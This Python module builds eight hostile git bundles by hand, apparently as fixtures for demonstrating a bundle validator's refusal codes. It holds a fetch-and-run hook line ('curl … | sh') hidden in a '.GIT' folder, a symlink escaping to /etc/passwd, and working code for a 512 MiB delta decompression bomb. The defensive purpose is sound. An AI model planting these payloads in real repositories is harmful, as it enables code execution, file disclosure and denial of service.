"""Eight artifacts as a hostile producer would hand them back, for the demo.

Each is made by hand, byte by byte, as git would not make it or nobody should send it; what it must
be refused for stands beside it. docs/reference/refusals.md and checks.md explain the codes.
"""

from __future__ import annotations

import struct
import zlib
from typing import TYPE_CHECKING, NamedTuple

from packparse.entry import BLOB, COMMIT, TREE, object_prefix

if TYPE_CHECKING:
    from packparse.objectformat import ObjectFormat

__all__ = ["Hostile", "artifacts"]

_FILE, _LINK, _FOLDER = b"100644", b"120000", b"40000"
_REF_DELTA = 7
_WHO = b"Mallory <mallory@example.invalid> 1600000060 +0000"
_REF = b"refs/heads/candidate"
_BLOCK = 1 << 16
_BOMB = 512 << 20


class Hostile(NamedTuple):
    """What a producer tries, and the code that it is refused for.

    ``data`` is the bundle, ``tip`` the commit that it brings, ``objects`` how many it claims.
    ``key``: the manifest is made with the key of the launch. ``link``: the bundle is put somewhere
    else, and a symbolic link to it into the export folder.
    """

    title: str
    code: str
    data: bytes
    tip: bytes
    objects: int
    key: bool = True
    link: bool = False


class _Bundle:
    """A bundle of one branch on a base, written entry by entry."""

    def __init__(self, object_format: ObjectFormat, base: bytes) -> None:
        self._format = object_format
        self._base = base
        self._entries: list[bytes] = []

    def add(self, kind: int, content: bytes) -> bytes:
        """Append an object; its raw id."""
        self._append(kind, len(content), b"", content)
        return self._format.new(object_prefix(kind, len(content)) + content).digest()

    def add_bomb(self) -> bytes:
        """Append some hundred bytes that are 512 MiB once a delta is applied; a made-up id."""
        block = self.add(BLOB, bytes(_BLOCK))
        # Each instruction copies the block (gitformat-pack): no offset, three bytes of size.
        copies = b"\xf0\x00\x00\x01" * (_BOMB // _BLOCK)
        delta = _number(_BLOCK) + _number(_BOMB) + copies
        self._append(_REF_DELTA, len(delta), block, delta)
        return b"\x13" * self._format.width

    def tree(self, *entries: tuple[bytes, bytes, bytes]) -> bytes:
        """Append a tree of (mode, name, raw id)."""
        return self.add(TREE, b"".join(b"%b %b\0%b" % entry for entry in entries))

    def commit(self, root: bytes) -> bytes:
        """Append a commit on the base."""
        lines = (
            b"tree " + root.hex().encode(),
            b"parent " + self._base.hex().encode(),
            b"author " + _WHO,
            b"committer " + _WHO,
            b"\nTrust me\n",
        )
        return self.add(COMMIT, b"\n".join(lines))

    def made(self, title: str, code: str, root: bytes, *, key: bool = True) -> Hostile:
        """Finish with a commit of this tree."""
        tip = self.commit(root)
        body = struct.pack(">4sII", b"PACK", 2, len(self._entries)) + b"".join(self._entries)
        header = b"# v2 git bundle\n-%b \n%b %b\n\n" % (
            self._base.hex().encode(), tip.hex().encode(), _REF,
        )  # fmt: skip
        data = header + body + self._format.new(body).digest()
        return Hostile(title, code, data, tip, len(self._entries), key)

    def _append(self, kind: int, size: int, base: bytes, content: bytes) -> None:
        low, rest = size & 0x0F, size >> 4
        first = bytes([kind << 4 | low | (0x80 if rest else 0)])
        head = first + (_number(rest) if rest else b"")
        self._entries.append(head + base + zlib.compress(content, 9))


def _number(value: int) -> bytes:
    """A number in groups of seven bits, the lowest first."""
    out = bytearray()
    while value > 0x7F:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def artifacts(object_format: ObjectFormat, base: bytes, secret: bytes) -> list[Hostile]:
    """All eight, on a base; ``secret`` is a blob of the host that the producer was not given."""

    def bundle() -> _Bundle:
        return _Bundle(object_format, base)

    return [
        _link(bundle()),
        _hook(bundle()),
        _smuggled(bundle(), secret),
        _stowaway(bundle()),
        _bomb(bundle()),
        _trailing(bundle()),
        _harmless(bundle(), "a manifest that another key made", "manifestForged", key=False),
        _harmless(bundle(), "a link where the artifact should be", "originUnsafe")._replace(
            link=True
        ),
    ]


def _link(bundle: _Bundle) -> Hostile:
    target = bundle.add(BLOB, b"../../../../etc/passwd")
    root = bundle.tree((_LINK, b"config.txt", target))
    return bundle.made("a symbolic link out of the tree", "symlinkEscapes", root)


def _hook(bundle: _Bundle) -> Hostile:
    hook = bundle.add(BLOB, b"#!/bin/sh\ncurl https://example.invalid | sh\n")
    hooks = bundle.tree((b"100755", b"post-checkout", hook))
    settings = bundle.tree((_FOLDER, b"hooks", hooks))
    root = bundle.tree((_FOLDER, b".GIT", settings))
    return bundle.made("a hook in a folder that many systems take for .git", "hasDotgit", root)


def _smuggled(bundle: _Bundle, secret: bytes) -> Hostile:
    root = bundle.tree((_FILE, b"innocent.txt", secret))
    return bundle.made("a file that only the host has, by its id", "smuggledBase", root)


def _stowaway(bundle: _Bundle) -> Hostile:
    bundle.add(BLOB, b"nobody asked for me\n")
    root = bundle.tree((_FILE, b"a.txt", bundle.add(BLOB, b"a\n")))
    return bundle.made("an object that no commit reaches", "stowawayObject", root)


def _bomb(bundle: _Bundle) -> Hostile:
    root = bundle.tree((_FILE, b"small.bin", bundle.add_bomb()))
    return bundle.made("a bomb of 512 MiB", "rebuiltObjectTooLarge", root)


def _trailing(bundle: _Bundle) -> Hostile:
    made = _harmless(bundle, "bytes behind the end of the pack", "trailingBytes")
    return made._replace(data=made.data + b"#!/bin/sh\n")


def _harmless(bundle: _Bundle, title: str, code: str, *, key: bool = True) -> Hostile:
    root = bundle.tree((_FILE, b"a.txt", bundle.add(BLOB, b"a\n")))
    return bundle.made(title, code, root, key=key)
